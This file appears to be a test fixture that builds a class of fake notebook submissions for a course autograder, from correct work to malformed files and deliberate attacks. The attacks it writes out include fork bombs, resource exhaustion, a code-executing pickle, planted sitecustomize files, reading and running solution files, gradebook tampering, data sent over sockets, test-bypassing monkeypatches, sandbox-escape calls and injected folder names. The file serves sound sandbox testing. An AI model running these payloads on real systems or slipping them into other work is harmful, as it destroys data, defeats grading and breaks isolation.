"""A class such as nobody wishes for: correct, broken and hostile submissions of one assignment, as many as wanted.

    python tests/hostile_class.py FOLDER --students 300

makes FOLDER/submitted/ for `dlcourse grade 01_background --course FOLDER`, and beside it what nobody may touch. Every
kind of submission is a function below that gets the notebook and says what must come of it.
"""

from __future__ import annotations

import argparse
import copy
import json
import os
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import count, islice
from pathlib import Path

import nbformat
from nbformat import NotebookNode

ROOT = Path(__file__).resolve().parents[1]
ASSIGNMENT = "01_background"
CORRECT, EARNS_NOTHING, ANY = "correct", "nothing", "any"
UNICODE = ("Nguyễn Thị Ánh", "李小龍", "Ólafur Þórðarson", "محمد")


@dataclass(frozen=True)
class Kind:
    """A kind of submission.

    Attributes:
        name: of the kind, and beginning of the students' names.
        make: changes the notebook; returns bytes to write instead of it, or None.
        points: what the checks must give: all, none, or whatever they find.
        state: in which it must end.
    """

    name: str
    make: Callable[[NotebookNode, Surroundings], bytes | None]
    points: str = EARNS_NOTHING
    state: str = "graded"


@dataclass(frozen=True)
class Surroundings:
    """What a submission may attack.

    Attributes:
        folder: of the class.
        submission: of this student and assignment.
        port: on which the teacher's machine listens.
    """

    folder: Path
    submission: Path
    port: int


KINDS: list[Kind] = []


def kind(name: str, points: str = EARNS_NOTHING, state: str = "graded"):
    """Register a function as a kind of submission."""

    def register(make):
        KINDS.append(Kind(name, make, points, state))
        return make

    return register


def attack(name: str, code: str, points: str = EARNS_NOTHING, every_answer: bool = False) -> None:
    """Register code that stands in the first cell of otherwise blank work, or in every function that is asked for."""

    def make(notebook, surroundings):
        blank(notebook)
        text = code.replace("FOLDER", str(surroundings.folder)).replace("PORT", str(surroundings.port))
        text = text.replace("ROOT", str(ROOT))
        for cell in answers(notebook):
            if every_answer:
                head = cell.source.split("\n")[0]
                cell.source = head + "\n" + "\n".join("    " + line for line in text.strip().split("\n"))
        if not every_answer:
            notebook.cells.insert(0, nbformat.v4.new_code_cell(text))

    KINDS.append(Kind(name, make, points))


def answers(notebook: NotebookNode) -> list[NotebookNode]:
    """The cells of code that a student writes."""
    return [
        cell
        for cell in notebook.cells
        if cell.cell_type == "code" and cell.metadata.get("nbgrader", {}).get("solution")
    ]


def blank(notebook: NotebookNode) -> None:
    """Take the answers out."""
    exercise = nbformat.read(ROOT / "exercises" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    notebook.cells = exercise.cells


@kind("correct", CORRECT)
def _(notebook, surroundings):
    return None


@kind("wrong", ANY)
def _(notebook, surroundings):
    answers(notebook)[0].source = re.sub(r"return .*", "return 0.0, 0.0", answers(notebook)[0].source)


@kind("blank")
def _(notebook, surroundings):
    blank(notebook)


@kind("syntax-error")
def _(notebook, surroundings):
    for cell in answers(notebook):
        cell.source = "def (:\n" + cell.source


@kind("corrupt", state="could not run")
def _(notebook, surroundings):
    return nbformat.writes(notebook).encode()[:5000]


@kind("empty-file", state="could not run")
def _(notebook, surroundings):
    return b""


@kind("json-of-another-kind", state="could not run")
def _(notebook, surroundings):
    return b'[{"nbformat": 4, "cells": []}]'


@kind("nested", state="could not run")
def _(notebook, surroundings):
    return b'{"nbformat": 4, "cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"


@kind("not-utf8", state="could not run")
def _(notebook, surroundings):
    return nbformat.writes(notebook).encode("utf-16")


@kind("huge", state="could not run")
def _(notebook, surroundings):
    path = surroundings.submission / f"{ASSIGNMENT}.ipynb"
    with path.open("wb") as file:
        file.truncate(3 * 2**30)  # a hole: it takes no room here
    return None


@kind("format-2", ANY, "needs a person")
def _(notebook, surroundings):
    old = {
        "nbformat": 2,
        "nbformat_minor": 0,
        "metadata": {"name": ""},
        "worksheets": [
            {
                "metadata": {},
                "cells": [
                    {
                        "cell_type": "code",
                        "language": "python",
                        "collapsed": False,
                        "input": c.source,
                        "outputs": [],
                    }
                    for c in notebook.cells
                    if c.cell_type == "code"
                ],
            }
        ],
    }
    return json.dumps(old).encode()


@kind("format-99", state="could not run")
def _(notebook, surroundings):
    return json.dumps({**notebook, "nbformat": 99}).encode()


@kind("missing", state="could not run")
def _(notebook, surroundings):
    (surroundings.submission / "readme.txt").write_text("forgot it")
    return b"!"


@kind("renamed", CORRECT, "needs a person")
def _(notebook, surroundings):
    (surroundings.submission / "final version (2).ipynb").write_text(nbformat.writes(notebook), encoding="utf-8")
    return b"!"


@kind("two-renamed", state="could not run")
def _(notebook, surroundings):
    for name in ("a.ipynb", "b.ipynb"):
        (surroundings.submission / name).write_text(nbformat.writes(notebook), encoding="utf-8")
    return b"!"


@kind("deleted-tests", CORRECT)
def _(notebook, surroundings):
    notebook.cells = [cell for cell in notebook.cells if not cell.metadata.get("nbgrader", {}).get("locked")]


@kind("deleted-answer", ANY, "needs a person")
def _(notebook, surroundings):
    notebook.cells.remove(answers(notebook)[0])


@kind("edited-tests", EARNS_NOTHING)
def _(notebook, surroundings):
    blank(notebook)
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("locked"):
            cell.source = "pass"


@kind("doubled-cells", CORRECT, "needs a person")
def _(notebook, surroundings):
    for number, cell in enumerate([cell for cell in notebook.cells if "nbgrader" in cell.metadata]):
        notebook.cells.append(nbformat.from_dict({**copy.deepcopy(cell), "id": f"copy-{number}"}))


@kind("flipped-flags", CORRECT)
def _(notebook, surroundings):
    for cell in notebook.cells:
        if fields := cell.metadata.get("nbgrader"):
            fields.update(
                solution=not fields["solution"], grade=not fields["grade"], locked=not fields["locked"], points=396
            )


@kind("nbgrader-of-another-kind", ANY, "needs a person")
def _(notebook, surroundings):
    for number, cell in enumerate(notebook.cells):
        cell.metadata["nbgrader"] = [None, 3, "q1", {"grade_id": ["q1"]}, {"grade_id": None}][number % 5]


@kind("large-cell", CORRECT)
def _(notebook, surroundings):
    notebook.cells.insert(0, nbformat.v4.new_markdown_cell("a long text " * 350_000))


@kind("large-code", CORRECT)
def _(notebook, surroundings):
    notebook.cells.insert(0, nbformat.v4.new_code_cell("text = '" + "x" * 4_000_000 + "'"))


@kind("warnings", CORRECT)
def _(notebook, surroundings):
    noise = "import sys, warnings\nwarnings.warn('mind the gap')\nprint('on stderr', file=sys.stderr)"
    notebook.cells.insert(0, nbformat.v4.new_code_cell(noise))


@kind("loop-beside", CORRECT)
def _(notebook, surroundings):
    notebook.cells.insert(2, nbformat.v4.new_code_cell("while True: pass"))


@kind("planted-files", EARNS_NOTHING)
def _(notebook, surroundings):
    blank(notebook)
    planted = "import os\nopen('/tmp/harm', 'w').write('planted code was run')\nos._exit(0)\n"
    for name in ("sitecustomize.py", "usercustomize.py", "numpy.py", "conftest.py", "checks.py", "dlcourse.py"):
        (surroundings.submission / name).write_text(planted)
    harm = f"open({str(surroundings.folder / 'HARMED')!r}, 'w').write('pickle')"
    code = f"c__builtin__\nexec\n(V{harm}\ntR."
    for name in ("answers.pkl", "model.npy"):
        (surroundings.submission / name).write_text(code)


@kind("link-to-solution", state="could not run")
def _(notebook, surroundings):
    target = ROOT / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    (surroundings.submission / f"{ASSIGNMENT}.ipynb").symlink_to(target)
    return b"!"


@kind("link-to-folder", state="could not run")
def _(notebook, surroundings):
    surroundings.submission.rmdir()
    surroundings.submission.symlink_to(ROOT / "solutions" / ASSIGNMENT)
    return b"!"


@kind("link-to-nowhere", state="could not run")
def _(notebook, surroundings):
    (surroundings.submission / f"{ASSIGNMENT}.ipynb").symlink_to("/nowhere/at/all.ipynb")
    return b"!"


@kind("pipe", state="could not run")
def _(notebook, surroundings):
    os.mkfifo(surroundings.submission / f"{ASSIGNMENT}.ipynb")
    return b"!"


@kind("folder-for-notebook", state="could not run")
def _(notebook, surroundings):
    (surroundings.submission / f"{ASSIGNMENT}.ipynb").mkdir()
    return b"!"


@kind("script-in-text", CORRECT)
def _(notebook, surroundings):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "q8":
            cell.source = "<script>fetch('/api/contents')</script> an answer"


@kind("loop")
def _(notebook, surroundings):
    blank(notebook)
    answers(notebook)[0].source = answers(notebook)[0].source.split("\n")[0] + "\n    while True: pass"


attack(
    "loop-without-signals",
    """
import signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: pass""",
)
attack("memory", "kept = []\nwhile True: kept.append(bytearray(b'1') * 2**27)")
attack(
    "fork-bomb",
    """
import os
while True:
    try: os.fork()
    except OSError: pass""",
)
attack("exit", "import os\nos._exit(0)", every_answer=True)
attack(
    "kill",
    "import os, signal\nfor one in (-1, os.getppid()): os.kill(one, signal.SIGKILL)",
    every_answer=True,
)
attack("output", "for _ in range(100): print('x' * 2**20)", every_answer=True)
attack("disk", "with open('/tmp/full', 'wb') as file:\n    while True: file.write(bytes(2**20))", every_answer=True)
attack(
    "read-solutions",
    """
import glob, os, re
found = ""
for place in ("ROOT", "FOLDER", "/work", "/root", "/home", "/proc/1/root", "/proc/1/cwd"):
    for pattern in ("solutions/*/*", "submitted/*/*/*", "*.db", "CANARY*"):
        for path in glob.glob(f"{place}/**/{pattern}", recursive=True)[:50]:
            try: found += open(path, errors="replace").read()
            except OSError: pass
for code in re.findall(r'"source": \\[(.*?)\\]', found, re.S):
    try: exec("".join(eval(f"[{code}]")))
    except Exception: pass
""",
)
attack(
    "write-everywhere",
    """
import os, shutil, sqlite3
for place in ("FOLDER", "ROOT", "/tmp", "/work", "/root", "/"):
    try: open(f"{place}/HARMED", "w").write("harm")
    except OSError: pass
try:
    with sqlite3.connect("FOLDER/gradebook.db") as book: book.execute("update grade set manual_score = 396")
except Exception: pass
shutil.rmtree("FOLDER/submitted", ignore_errors=True)
""",
)
attack(
    "network",
    """
import socket
for family, address in (
    (socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET6, ("::1", PORT)), (socket.AF_INET, ("10.0.0.1", PORT)),
):
    try:
        with socket.create_connection(address[:2], timeout=1) as line: line.sendall(b"everything")
    except OSError: pass
""",
)
attack(
    "background",
    """
import os, subprocess, sys
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", "import time; SURVIVOR = PORT; time.sleep(3000)"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        time.sleep(3000)
    os._exit(0)
""",
)
attack(
    "stripped-asserts",
    """
import ast, builtins
compiled = compile
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
builtins.compile = lambda source, *rest, **more: compiled(
    Strip().visit(source) if isinstance(source, ast.AST) else source, *rest, **more
)
""",
)
attack(
    "patched-numpy",
    """
import numpy as np
for name in ("allclose", "array_equal", "isclose", "isfinite"): setattr(np, name, lambda *_, **__: True)
for name in ("assert_allclose", "assert_array_equal"): setattr(np.testing, name, lambda *_, **__: None)
""",
)
attack(
    "patched-builtins", "import builtins\nbuiltins.abs = builtins.max = lambda *_: 0\nbuiltins.all = lambda _: True"
)
attack(
    "equal-to-everything",
    """
class Yes:
    shape, dtype, size, ndim = (5,), float, 5, 1
    def __eq__(self, other): return True
    def __getattr__(self, name): return Yes()
    def __array__(self, *_, **__): import numpy; return numpy.array(True)
    def __iter__(self): return iter([Yes()] * 3)
    def __len__(self): return 3
return Yes()
""",
    every_answer=True,
)
attack(
    "forged-messages",
    """
import json, os
text = json.dumps({"dict": {"tag": "0" * 32, "error": None, "value": True}}).encode()
packed = len(text).to_bytes(4, "big") + text
for line in range(3, 64):
    try: os.write(line, (len(packed).to_bytes(8, "big") + packed) * 3)
    except OSError: pass
return 1.0
""",
    every_answer=True,
)
attack(
    "patched-worker",
    """
from dlcourse.grading import check, marking, wire, worker
worker._answer = lambda shell, request: {"error": None, "value": None}
for name in ("close", "shape", "true", "array"): setattr(check, name, lambda *_, **__: None)
""",
)
attack("large-answer", "import numpy as np\nreturn np.zeros(2**26)", every_answer=True)
attack(
    "unjail",
    """
import ctypes, os
libc = ctypes.CDLL(None)
for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000): libc.unshare(flag)
for number in range(3, 64):
    try: os.fchdir(number)
    except OSError: pass
try: os.chroot(".")
except OSError: pass
for target in (b"/tmp", b"/proc", b"/dev/shm"): libc.umount2(target, 2)
try: open("/tmp/HARMED", "w").write("harm")
except OSError: pass
try: open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/x")
except OSError: pass
""",
)

# Names of folders, of which some are of no student.
NAMES = {"-rf": False, "..%2f..%2fgradebook": False, "a..b": False, "=cmd|'calc'!A0": False, "line\nbreak": False}
NAMES |= dict.fromkeys(UNICODE, True)


def make(folder: Path, students: int | None = None, port: int = 9) -> dict[str, Kind]:
    """Make a class.

    Args:
        folder: receives ``submitted/`` and what nobody may touch.
        students: how many; one of each kind when left out.
        port: on which the teacher's machine listens.

    Returns:
        What must come of each submission, by student.
    """
    solution = nbformat.read(ROOT / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    (folder / "submitted").mkdir(parents=True)
    for name in ("CANARY.txt", "solutions.txt", "gradebook.txt"):
        (folder / name).write_text("nobody may touch this\n")
    everybody = list(islice(_everybody(), students or len(KINDS) + len(NAMES)))
    for student, one in everybody:
        _hand_in(folder, student, one, copy.deepcopy(solution), port)
    return dict(everybody)


def _everybody() -> Iterator[tuple[str, Kind]]:
    """Every kind once, every name once, then every kind again and again."""
    yield from ((f"{one.name}-001", one) for one in KINDS)
    for name, good in NAMES.items():
        yield name, KINDS[0] if good else Kind("name", KINDS[0].make, EARNS_NOTHING, "could not run")
    yield from ((f"{one.name}-{number:03}", one) for number in count(2) for one in KINDS)


def _hand_in(folder: Path, student: str, one: Kind, notebook: NotebookNode, port: int) -> None:
    submission = folder / "submitted" / student / ASSIGNMENT
    submission.mkdir(parents=True)
    path = submission / f"{ASSIGNMENT}.ipynb"
    instead = one.make(notebook, Surroundings(folder, submission, port))
    if instead is not None and instead != b"!":
        path.write_bytes(instead)
    elif instead is None and not path.exists():
        path.write_text(nbformat.writes(notebook), encoding="utf-8")


def main() -> None:
    """Make a class in a folder that is not there yet."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("folder", type=Path)
    parser.add_argument("--students", type=int, default=300)
    chosen = parser.parse_args()
    expected = make(chosen.folder, chosen.students)
    print(
        f"{len(expected)} submissions of {ASSIGNMENT}, of {len(KINDS)} kinds, are in {chosen.folder / 'submitted'}."
    )


if __name__ == "__main__":
    main()
